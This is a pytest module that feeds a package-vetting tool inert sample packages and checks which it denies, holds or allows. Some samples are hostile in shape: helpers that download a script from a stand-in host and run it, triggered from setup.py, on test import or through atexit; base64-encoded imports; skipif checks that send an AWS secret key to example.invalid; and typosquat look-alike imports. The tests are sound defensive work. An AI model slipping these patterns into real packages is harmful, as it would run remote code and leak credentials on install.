"""Side code reached only when called, an environment variable naming a test's server, and a
look-alike import a declared, established distribution supplies (ADR 0132), each beside the
malicious shape next to it.

Every sample is inert and made here (vetting only reads files): langchain's test helper that
fetches a model converter and runs it, fastmcp's smoke scripts starting the server they test,
langchain's ``skipif`` pinging a server an environment variable names, and fastmcp's tasks
package importing ``docket`` from its declared ``pydocket``."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import verdict_cases, vet_package

SETUP = "from setuptools import setup\nsetup(name='evpkg', packages=['evpkg'])\n"
PACKAGE = {"setup.py": SETUP, "evpkg/__init__.py": ""}
# langchain's llama.cpp tests: a helper fetches a converter script and runs it, for a test.
FETCH = (
    "import os\nfrom urllib.request import urlretrieve\n\n\n"
    "def get_model():\n"
    "    urlretrieve('https://example.invalid/convert.py', 'convert.py')\n"
    "    os.system('python convert.py model.bin')\n"
    "    return 'model.bin'\n"
)
USE = "\n\ndef test_embedding():\n    assert get_model()\n"
# fastmcp's downstream smoke harness: the server under test on a port read from a socket.
SERVE = (
    "import socket, subprocess, sys\n\n\n"
    "def serve(transport):\n"
    "    with socket.socket() as sock:\n"
    "        sock.bind(('127.0.0.1', 0))\n"
    "        port = sock.getsockname()[1]\n"
    "    return subprocess.Popen([sys.executable, 'server.py', transport, str(port)])\n"
)
SMOKE = (
    "import asyncio\nfrom _harness import serve\n\n\n"
    "async def main():\n    serve('http').wait()\n\n\n"
    "if __name__ == '__main__':\n    asyncio.run(main())\n"
)
JOINED = "m = importlib.import_module('evpkg.tests.' + 'hel' + 'per')"
DECODED = "m = importlib.import_module(base64.b64decode('ZXZwa2cudGVzdHMuaGVscGVy').decode())"
# langchain's and fastmcp's lazy imports: into their own package, or from a literal table.
LAZY = (
    "import importlib\n\n_LOOKUP = {'Model': 'evpkg.models'}\n\n\n"
    "def __getattr__(name):\n"
    "    if name in _LOOKUP:\n        return importlib.import_module(_LOOKUP[name])\n"
    "    return importlib.import_module(f'.{name}', __name__)\n"
)
# langchain's llamafile tests: skipped unless the server the environment names answers.
PING = (
    "import os\n\nimport pytest\nimport requests\n\n"
    "BASE = os.getenv('EVPKG_SERVER_URL', 'http://localhost:8080')\n\n\n"
    "def up():\n    return requests.get({url}).ok\n\n\n"
    "@pytest.mark.skipif(not up(), reason='no server')\n"
    "def test_call():\n    pass\n"
)
SECRET = "os.environ['AWS_SECRET_ACCESS_KEY']"
# psutil's scripts/internal/install_pip.py: fetches get-pip.py and runs it, when run.
PIP = (
    "import os, sys, tempfile\nfrom urllib.request import urlopen\n\n\n"
    "def main():\n"
    "    with tempfile.NamedTemporaryFile(suffix='.py') as f:\n"
    "        f.write(urlopen('https://example.invalid/get-pip.py').read())\n"
    "        f.flush()\n"
    "        os.system(f'{sys.executable} {f.name} --user')\n"
)
RUN_PIP = "\n\nif __name__ == '__main__':\n    main()\n"
SCRIPT = "scripts/internal/install_pip.py"


def in_tests(path: str, text: str, **more: str) -> dict[str, str]:
    """The package with ``text`` at ``tests/PATH`` (a package folder) and ``more`` files."""
    return {**PACKAGE, "tests/__init__.py": "", path: text, **more}


def ping(url: str) -> dict[str, str]:
    return in_tests("tests/test_server.py", PING.format(url=url))


def declaring(dependency: str, module: str) -> dict[str, str]:
    """An sdist whose subproject declares ``dependency`` and whose module imports
    ``module`` (fastmcp's ``fastmcp_tasks/pyproject.toml``)."""
    pyproject = (
        f"[project]\nname = 'evtasks'\nversion = '1.0'\ndependencies = ['{dependency}>=1']\n"
    )
    return {
        **PACKAGE,
        "evtasks/pyproject.toml": pyproject,
        "evtasks/evtasks/__init__.py": "",
        "evtasks/evtasks/handlers.py": f"from {module}.execution import State\n",
    }


# setup.py calling into side code runs it on install: the cross-file chain keeps its full
# weight there (the coordinator's review of ADR 0132; it only held before).
DENIED: dict[str, dict[str, str]] = {
    "setup-calls-the-tests-helper": in_tests(
        "tests/helper.py",
        FETCH,
        **{"setup.py": "from tests.helper import get_model\nget_model()\n" + SETUP},
    ),
}
HELD: dict[str, dict[str, str]] = {
    # pytest runs a conftest.py's fixtures and hooks for any test in its folder.
    "conftest-fixture-drops": in_tests("tests/conftest.py", FETCH),
    # Run on import under pytest: at a test module's top level, or in its skipif.
    "test-module-drops-on-import": in_tests(
        "tests/test_model.py", FETCH + "\nMODEL = get_model()\n"
    ),
    "skipif-drops-on-import": in_tests(
        "tests/test_model.py",
        "import pytest\n" + FETCH + "\n\n@pytest.mark.skipif(not get_model(), reason='x')\n"
        "def test_a():\n    pass\n",
    ),
    # Another test module's top level calls the helper; or hands it to atexit.
    "test-module-imports-the-helper-and-calls-it": in_tests(
        "tests/helper.py",
        FETCH,
        **{"tests/test_model.py": "from .helper import get_model\nM = get_model()\n"},
    ),
    "helper-handed-to-atexit": in_tests(
        "tests/helper.py",
        FETCH,
        **{
            "tests/test_model.py": (
                "import atexit\nfrom .helper import get_model\natexit.register(get_model)\n"
            )
        },
    ),
    # What install or import runs names the helper: setup.py with tests/ on its path, a
    # package module (even inside a function), an entry point. (setup.py importing it from
    # tests/ and calling it is denied: see DENIED.)
    "setup-puts-tests-on-its-path": in_tests(
        "tests/helper.py",
        FETCH,
        **{
            "setup.py": "import sys\nsys.path.insert(0, 'tests')\nfrom helper import get_model\n"
            "get_model()\n" + SETUP
        },
    ),
    "package-module-calls-the-tests-helper": in_tests(
        "tests/helper.py",
        FETCH,
        **{
            "evpkg/core.py": (
                "def load():\n    from tests.helper import get_model\n    return get_model()\n"
            )
        },
    ),
    "entry-point-names-the-tests-helper": in_tests(
        "tests/helper.py",
        FETCH,
        **{
            "pyproject.toml": (
                "[project]\nname = 'evpkg'\n[project.scripts]\nfetch = 'tests.helper:get_model'\n"
            )
        },
    ),
    # A package's import reaches a test module by a computed name: joined, decoded, or in a
    # function another module calls on import.
    "package-imports-the-helper-by-joined-name": {
        "evpkg/__init__.py": f"import importlib\n{JOINED}\nm.get_model()\n",
        "evpkg/tests/__init__.py": "",
        "evpkg/tests/helper.py": FETCH,
    },
    "package-imports-the-helper-by-decoded-name": {
        "evpkg/__init__.py": f"import importlib, base64\n{DECODED}\nm.get_model()\n",
        "evpkg/tests/__init__.py": "",
        "evpkg/tests/helper.py": FETCH,
    },
    "package-module-loads-plugins-on-import": {
        "evpkg/__init__.py": "from .plugins import load\nload()\n",
        "evpkg/plugins.py": f"import importlib, base64\n\n\ndef load():\n    {DECODED}\n"
        "    m.get_model()\n",
        "evpkg/tests/__init__.py": "",
        "evpkg/tests/helper.py": FETCH,
    },
    # The environment sent to a host written in the code, not only choosing where to.
    "skipif-sends-a-secret-in-the-query": ping(f"'https://example.invalid/?k=' + {SECRET}"),
    "skipif-sends-a-secret-as-params": ping(f"BASE, params={{'k': {SECRET}}}"),
    "skipif-appends-a-secret-to-the-address": ping(f"BASE + {SECRET}"),
    "skipif-names-a-host-under-the-configured-one": ping("BASE + '.example.invalid/'"),
    "skipif-reads-its-own-getenv": in_tests(
        "tests/test_server.py",
        PING.format(url="BASE")
        .replace(
            "import requests\n",
            "import requests\n\n\ndef getenv(name, default):\n"
            f"    return 'https://example.invalid/?' + {SECRET}\n",
        )
        .replace("os.getenv(", "getenv("),
    ),
    # An sdist's script that fetches and runs at its top level, or that a command runs.
    "script-drops-at-its-top-level": {**PACKAGE, SCRIPT: PIP + "\n\nmain()\n"},
    "command-names-the-script": {
        **PACKAGE,
        SCRIPT: PIP + RUN_PIP,
        "bin/evpkg-pip": f"#!/bin/sh\nexec python {SCRIPT}\n",
    },
    # A look-alike import explained by nothing established: undeclared, declared by its own
    # look-alike name, or by an affixed name that is no established project.
    "lookalike-import-undeclared": declaring("httpx", "docket"),
    "lookalike-import-declared-by-its-own-name": declaring("sockt", "sockt"),
    "lookalike-import-declared-affixed-but-unknown": declaring("pysockt", "sockt"),
    "lookalike-import-declared-by-a-lookalike-of-the-project": declaring("pydockets", "docket"),
}
ALLOWED: dict[str, dict[str, str]] = {
    # langchain: the helper a test calls, in a test package and in a folder outside one.
    "test-helper-fetches-and-runs-a-converter": in_tests("tests/test_model.py", FETCH + USE),
    "test-script-fetches-and-runs-a-converter": {**PACKAGE, "tests/test_model.py": FETCH + USE},
    # psutil: a developer's script run by a person; the sdist's file listing, MANIFEST.in and
    # Makefile name it.
    "sdist-script-fetches-pip-and-runs-it": {
        **PACKAGE,
        SCRIPT: PIP + RUN_PIP,
        "evpkg.egg-info/SOURCES.txt": f"setup.py\n{SCRIPT}\n",
        "MANIFEST.in": "recursive-include scripts *.py\n",
        "Makefile": f"install-pip:\n\tpython {SCRIPT}\n",
    },
    # fastmcp: smoke scripts start the server under test from main(); a CI workflow and a
    # README name them (they install nothing).
    "smoke-script-starts-its-server": {
        **PACKAGE,
        "tests/downstream/_harness.py": SERVE,
        "tests/downstream/smoke_http.py": SMOKE,
        "tests/downstream/README.md": "Run `python smoke_http.py`; `_harness.py` starts it.\n",
        ".github/workflows/smoke.yml": "run: python tests/downstream/smoke_http.py\n",
    },
    # langchain: its package imports lazily, from a table and within itself.
    "test-helper-beside-lazy-package-imports": {
        **in_tests("tests/test_model.py", FETCH + USE),
        "evpkg/__init__.py": LAZY,
        "evpkg/models.py": "",
    },
    # langchain: the address of the server to test is the environment's, the path a literal.
    "skipif-pings-the-configured-server": ping("BASE"),
    "skipif-pings-the-configured-servers-health": ping("BASE + '/health'"),
    "skipif-pings-the-configured-server-in-an-fstring": ping("f'{BASE.rstrip(\"/\")}/health'"),
    # fastmcp: ``docket`` from the declared, established ``pydocket``.
    "lookalike-import-of-an-established-affixed-dependency": declaring("pydocket", "docket"),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_side_called_shapes(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
